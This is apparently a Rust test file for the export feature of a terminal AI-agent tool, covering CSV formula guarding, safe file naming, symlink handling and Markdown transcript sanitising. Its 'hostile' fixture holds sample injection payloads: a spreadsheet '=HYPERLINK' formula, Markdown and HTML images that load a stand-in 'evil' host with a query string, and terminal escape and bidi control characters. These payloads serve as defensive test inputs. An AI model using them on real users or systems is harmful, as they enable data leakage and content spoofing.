//! Exports: the forms of the ledger and of a transcript, the files they go to, and what can never be in them.

use std::fs;
use std::path::Path;

use jiff::civil::{DateTime, date};
use proptest::prelude::*;
use steersman_base::event::{Event, Outcome, Usage};
use steersman_tui::effect::PaneEffect;
use steersman_tui::export::export;
use steersman_tui::export::{ExportFormat, ExportRequest, ExportSubject, csv, default_name, save};
use steersman_tui::msg::{Effect, Msg};

use crate::support::stage::Stage;

fn now() -> DateTime {
    date(2026, 11, 21).at(9, 30, 5, 0)
}

fn request(arguments: &str) -> ExportRequest {
    ExportRequest::parse(arguments).unwrap()
}

/// Reads RFC 4180, and takes the guards off.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => field.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut field)),
            '\r' if !quoted => {
                assert_eq!(chars.next(), Some('\n'), "a row ends with both");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            '\n' if !quoted => panic!("a line feed outside of quotation marks: {text:?}"),
            c => field.push(c),
        }
    }
    assert!(!quoted && row.is_empty() && field.is_empty(), "the text ends within a row: {text:?}");
    let bare = |field: String| field.strip_prefix('\'').map(str::to_owned).unwrap_or(field);
    rows.into_iter().map(|row: Vec<String>| row.into_iter().map(bare).collect()).collect()
}

proptest! {
    #[test]
    fn every_field_comes_back_and_none_is_a_formula(
        rows in prop::collection::vec(prop::collection::vec("[=+@'\",\r\n\t a-c-]{0,6}|.{0,12}", 2..5), 0..6)
    ) {
        let text = csv(&rows);
        prop_assert_eq!(&read_csv(&text), &rows);
        for field in rows.iter().flatten() {
            let alone = csv([[field]]);
            let shown = alone.strip_prefix('"').unwrap_or(&alone);
            prop_assert!(!shown.starts_with(['=', '+', '-', '@', '\t']), "{alone:?}");
        }
    }
}

#[test]
fn fields_are_quoted_and_guarded_as_they_need() {
    let rows = [vec!["plain", "a,b", "say \"x\"", "two\nlines"], vec!["=1+1", "-1", "+1", "@SUM(A1)", "'x", "x=1"]];
    let expected = "plain,\"a,b\",\"say \"\"x\"\"\",\"two\nlines\"\r\n'=1+1,'-1,'+1,'@SUM(A1),''x,x=1\r\n";
    assert_eq!(csv(&rows), expected);
}

#[test]
fn the_arguments_name_subject_form_and_path_in_any_sensible_way() {
    let read = |arguments| ExportRequest::parse(arguments).map(|r: ExportRequest| (r.subject, r.form, r.path));
    let (transcript, ledger) = (ExportSubject::Transcript, ExportSubject::Ledger);
    let path = |path: &str| Some(path.to_owned());
    assert_eq!(read(""), Ok((transcript, ExportFormat::Markdown, None)));
    assert_eq!(read(" ledger "), Ok((ledger, ExportFormat::Csv, None)));
    assert_eq!(read("transcript"), Ok((transcript, ExportFormat::Markdown, None)));
    assert_eq!(read("ledger out.md"), Ok((ledger, ExportFormat::Markdown, path("out.md"))));
    assert_eq!(read("out.CSV"), Ok((ledger, ExportFormat::Csv, path("out.CSV"))));
    assert_eq!(read("my notes/of today.md"), Ok((transcript, ExportFormat::Markdown, path("my notes/of today.md"))));
    assert_eq!(read("ledger ../.."), Ok((ledger, ExportFormat::Csv, path("../.."))));
    assert_eq!(read("./ledger"), Ok((transcript, ExportFormat::Markdown, path("./ledger"))));
    assert!(read("transcript out.csv").unwrap_err().contains("Markdown"));
    assert!(read("ledger out.pdf").unwrap_err().contains(".md or .csv"));
}

#[test]
fn a_file_that_is_there_is_never_written_over() {
    let dir = tempfile::tempdir().unwrap();
    let write = |arguments: &str, text: &str| save(&request(arguments), text, dir.path(), None, now()).unwrap();
    let names = [write("ledger", "one"), write("ledger", "two"), write("ledger", "three")];
    let expected = ["", "-2", "-3"].map(|end| dir.path().join(format!("steersman-ledger-2026-11-21-093005{end}.csv")));
    assert_eq!(names, expected);
    assert_eq!(names.map(|name| fs::read_to_string(name).unwrap()), ["one", "two", "three"]);
    fs::write(dir.path().join("mine.md"), "kept").unwrap();
    assert_eq!(write("mine.md", "new"), dir.path().join("mine-2.md"));
    assert_eq!(fs::read_to_string(dir.path().join("mine.md")).unwrap(), "kept");
}

#[test]
fn a_link_to_nowhere_is_not_followed() {
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(dir.path().join("elsewhere"), dir.path().join("out.md")).unwrap();
    assert_eq!(save(&request("out.md"), "x", dir.path(), None, now()).unwrap(), dir.path().join("out-2.md"));
    assert!(!dir.path().join("elsewhere").exists());
}

#[test]
fn a_path_can_be_a_directory_or_begin_at_home_or_have_no_end() {
    let (dir, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    fs::create_dir(dir.path().join("sub")).unwrap();
    let write = |arguments: &str| save(&request(arguments), "", dir.path(), Some(home.path()), now());
    let name = default_name(&request(""), now());
    assert_eq!(write("sub").unwrap(), dir.path().join("sub").join(&name));
    assert_eq!(write("~/x.md").unwrap(), home.path().join("x.md"));
    assert_eq!(write("ledger notes").unwrap(), dir.path().join("notes.csv"));
    let error = write("no/such/place.md").unwrap_err().to_string();
    assert!(error.contains("no/such/place.md") && error.contains("No such file"), "{error}");
}

/// A session whose texts want to be more than texts.
fn hostile() -> Stage {
    let mut stage = Stage::new(120, 40);
    stage.keys("=HYPERLINK(\"http://evil\") | `a` <lt>b><enter>");
    let taken = stage.take_turn();
    stage.turn("").deliver(&taken, false).seen("", &taken, 0);
    stage.event("", Event::Tokens(Usage { input: Some(10), cost_nanos: Some(1_500_000), ..Usage::default() }));
    stage.call("", "c1", "grep").result("", "c1", "```\n# not a heading\n\u{1b}[2J\u{202e}\n````\n");
    let answer =
        "# Found\n\n![leak](http://evil/?q=1) and <img src=http://evil> and `<code>`\n\n```rust\nlet open = 1;";
    stage.says("", answer).event("", Event::Assistant { text: answer.to_owned(), interrupted: true });
    let second = "<div a=\"`\"> ` ![x](http://evil) \\![y](http://evil) `` ![kept](code) ``";
    stage.event("", Event::Assistant { text: second.to_owned(), interrupted: false });
    stage.turn_ended("", Outcome::Cancelled, None);
    stage
}

fn document(stage: &Stage, arguments: &str) -> String {
    match export(&stage.app, arguments).as_slice() {
        [PaneEffect::Outside(Effect::Write { text, .. })] => text.clone(),
        other => panic!("{other:?}"),
    }
}

/// Returns headings at the top, and fails when anything in the page loads or is HTML.
fn headings(page: &str) -> Vec<String> {
    use pulldown_cmark::{Event as Part, Options, Parser, Tag, TagEnd};
    let (mut found, mut heading, mut depth) = (Vec::new(), None, 0);
    for part in Parser::new_ext(page, Options::ENABLE_TABLES) {
        match part {
            Part::Start(Tag::Heading { .. }) if depth == 0 => {
                heading = Some(String::new());
                depth += 1;
            }
            Part::Start(Tag::Image { dest_url, .. }) => panic!("loads {dest_url}:\n{page}"),
            Part::Html(html) | Part::InlineHtml(html) if &*html != "<br>" => panic!("HTML {html}:\n{page}"),
            Part::Start(_) => depth += 1,
            Part::End(TagEnd::Heading(_)) => {
                found.extend(heading.take());
                depth -= 1;
            }
            Part::End(_) => depth -= 1,
            Part::Text(text) | Part::Code(text) => {
                if let Some(heading) = &mut heading {
                    heading.push_str(&text);
                }
            }
            _ => {}
        }
    }
    found
}

#[test]
fn the_transcript_is_a_page_in_which_nothing_runs_loads_or_hides() {
    let page = document(&hostile(), "transcript");
    let found = headings(&page);
    let expected = [
        "Transcript of main",
        "User · 09:30:00",
        "✓ grep (1.2 s) · 09:30:00",
        "Assistant (interrupted) · 09:30:00",
        "Assistant · 09:30:00",
    ];
    assert_eq!(found, expected, "{page}");
    assert!(page.contains("✓✓ seen"), "{page}");
    assert!(!page.contains('\u{1b}') && !page.contains('\u{202e}') && page.contains("<U+202E>"), "{page}");
    assert!(page.contains("`````text\n```\n# not a heading"), "{page}");
}

#[test]
fn tame_answers_keep_their_looks() {
    let mut stage = Stage::new(80, 24);
    let answer = "## Plan\n\n- one `a < b`\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```sh\nls <x\n```";
    stage.turn("").event("", Event::Assistant { text: answer.to_owned(), interrupted: false });
    let page = document(&stage, "");
    assert!(page.ends_with(&format!("## Assistant · 09:30:00\n\n{answer}\n")), "{page}");
}

#[test]
fn the_ledger_has_the_same_rows_in_both_forms() {
    let stage = hostile();
    let rows = read_csv(&document(&stage, "ledger"));
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0].len(), 12);
    assert_eq!(rows[1][2], "=HYPERLINK(\"http://evil\") | `a` <b>");
    assert_eq!(&rows[1][4..], ["seen", "0", "start of turn 1", "step 0", "10", "0.001500000", "add", ""]);
    assert!(document(&stage, "ledger").contains("\"'=HYPERLINK("));
    let page = document(&stage, "ledger x.md");
    assert_eq!(headings(&page), ["Ledger"]);
    assert!(page.contains("\\| \\`a\\` \\<b\\> |"), "{page}");
    assert!(page.contains("$0.0015"), "{page}");
}

#[test]
fn the_empty_ledger_is_a_document_too() {
    let stage = Stage::new(80, 24);
    assert_eq!(read_csv(&document(&stage, "ledger")).len(), 1);
    assert!(document(&stage, "ledger x.md").contains("Nothing was sent."));
}

#[test]
fn the_status_line_says_the_path_or_the_reason() {
    let mut stage = Stage::new(120, 40);
    stage.keys("/export ledger x.pdf<enter>");
    assert!(stage.screen().contains("not exported: the name of an exported file ends in .md or .csv"));
    let path = Path::new("/tmp/x.csv").display().to_string();
    stage.tell(Msg::Written { subject: ExportSubject::Ledger, outcome: Ok(path) });
    assert!(stage.screen().contains("ledger written to /tmp/x.csv"));
    stage.tell(Msg::Written { subject: ExportSubject::Ledger, outcome: Err("/x: no room".to_owned()) });
    assert!(stage.screen().contains("ledger not exported: /x: no room"));
}

#[test]
fn all_agents_are_one_page_with_times_arguments_and_output() {
    let mut stage = Stage::new(80, 24);
    stage.turn("").call("", "c1", "agent").spawn("", "file_miner 0").later(61_000);
    stage.turn("file_miner 0").call("file_miner 0", "k1", "read").result("file_miner 0", "k1", "what it read");
    let page = document(&stage, "all");
    let found = headings(&page);
    assert_eq!(found[0], "Transcript of main");
    assert!(found.contains(&"Transcript of file_miner 0".to_owned()), "{page}");
    assert!(found.contains(&"✓ read (1.2 s) · 09:31:01".to_owned()), "{found:?}");
    assert!(page.contains("From 2026-11-21 09:30:00 +00:00.") && page.contains("what it read"), "{page}");
    assert!(page.contains("\"path\": \"src\""), "{page}");
}
